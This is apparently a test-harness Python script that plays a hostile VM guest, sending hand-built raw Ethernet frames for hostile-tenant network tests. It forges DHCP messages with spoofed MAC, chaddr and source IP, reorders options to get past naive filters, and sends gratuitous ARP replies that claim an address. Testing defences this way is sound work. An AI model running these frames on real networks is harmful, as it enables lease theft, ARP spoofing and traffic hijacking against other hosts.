#!/usr/bin/env python3
"""l2_attack.py: what a hostile guest sends on its own link, frame by frame,
for the hostile-tenant tests.  Only run inside the tests' network namespaces.

Every frame is built by hand and sent on an AF_PACKET socket, so the guest
chooses each field (Ethernet source, IP source, BOOTP chaddr) as an attacker
with root in its VM can.

  dhcp --ifname I --type decline|release|discover|request --src-mac M
       --chaddr M2 [--ciaddr A] [--requested A] [--server A] [--src-ip A]
       [--clid M3] [--type-option-late]
        one DHCP message to 255.255.255.255:67 (IP source --src-ip, default
        0.0.0.0, or --ciaddr for a release).  --type-option-late puts option
        53 after the others (a message type dnsmasq reads but a filter reading
        the first option would not).
  garp --ifname I --src-mac M --ip A [--count N]
        N gratuitous ARP replies "A is at M" (broadcast).
"""
import argparse
import os
import random
import socket
import struct
import sys

DHCP_TYPES = {"discover": 1, "request": 3, "decline": 4, "release": 7, "inform": 8}


def mac_bytes(s):
    b = bytes(int(x, 16) for x in s.split(":"))
    if len(b) != 6:
        raise ValueError("bad MAC %r" % s)
    return b


def ip_bytes(s):
    return socket.inet_aton(s)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4_udp(src, dst, sport, dport, payload):
    udp_len = 8 + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    csum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.randrange(65536), 0,
                      64, 17, 0, src, dst)
    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
    return hdr + udp


def dhcp_payload(a):
    chaddr = mac_bytes(a.chaddr)
    ciaddr = ip_bytes(a.ciaddr or "0.0.0.0")
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, random.randrange(1 << 32),
                        0, 0x8000, ciaddr, b"\0" * 4, b"\0" * 4, b"\0" * 4,
                        chaddr + b"\0" * 10, b"\0" * 64, b"\0" * 128)
    typ = bytes([53, 1, DHCP_TYPES[a.type]])
    rest = b""
    if a.requested:
        rest += bytes([50, 4]) + ip_bytes(a.requested)
    if a.server:
        rest += bytes([54, 4]) + ip_bytes(a.server)
    rest += bytes([61, 7, 1]) + mac_bytes(a.clid or a.chaddr)
    opts = (rest + typ) if a.type_option_late else (typ + rest)
    return bootp + b"\x63\x82\x53\x63" + opts + b"\xff"


def send_frame(ifname, frame):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    try:
        s.bind((ifname, 0))
        s.send(frame)
    finally:
        s.close()


def cmd_dhcp(a):
    src_ip = a.src_ip or (a.ciaddr if a.type == "release" and a.ciaddr else "0.0.0.0")
    ip = ipv4_udp(ip_bytes(src_ip), ip_bytes("255.255.255.255"), 68, 67, dhcp_payload(a))
    frame = b"\xff" * 6 + mac_bytes(a.src_mac) + b"\x08\x00" + ip
    send_frame(a.ifname, frame)
    print("sent %s chaddr %s from %s/%s" % (a.type, a.chaddr, a.src_mac, src_ip))


def cmd_garp(a):
    mac, ip = mac_bytes(a.src_mac), ip_bytes(a.ip)
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, ip, b"\xff" * 6, ip)
    frame = b"\xff" * 6 + mac + b"\x08\x06" + arp
    for _ in range(a.count):
        send_frame(a.ifname, frame)
    print("sent %d gratuitous ARP: %s is at %s" % (a.count, a.ip, a.src_mac))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    d = sub.add_parser("dhcp")
    d.add_argument("--ifname", required=True)
    d.add_argument("--type", choices=sorted(DHCP_TYPES), required=True)
    d.add_argument("--src-mac", required=True)
    d.add_argument("--chaddr", required=True)
    d.add_argument("--ciaddr")
    d.add_argument("--requested")
    d.add_argument("--server")
    d.add_argument("--src-ip")
    d.add_argument("--clid", help="client identifier MAC (default: --chaddr)")
    d.add_argument("--type-option-late", action="store_true")
    g = sub.add_parser("garp")
    g.add_argument("--ifname", required=True)
    g.add_argument("--src-mac", required=True)
    g.add_argument("--ip", required=True)
    g.add_argument("--count", type=int, default=2)
    a = p.parse_args()
    if os.geteuid() != 0:
        sys.exit("l2_attack.py: needs root (raw frames)")
    {"dhcp": cmd_dhcp, "garp": cmd_garp}[a.cmd](a)


if __name__ == "__main__":
    main()
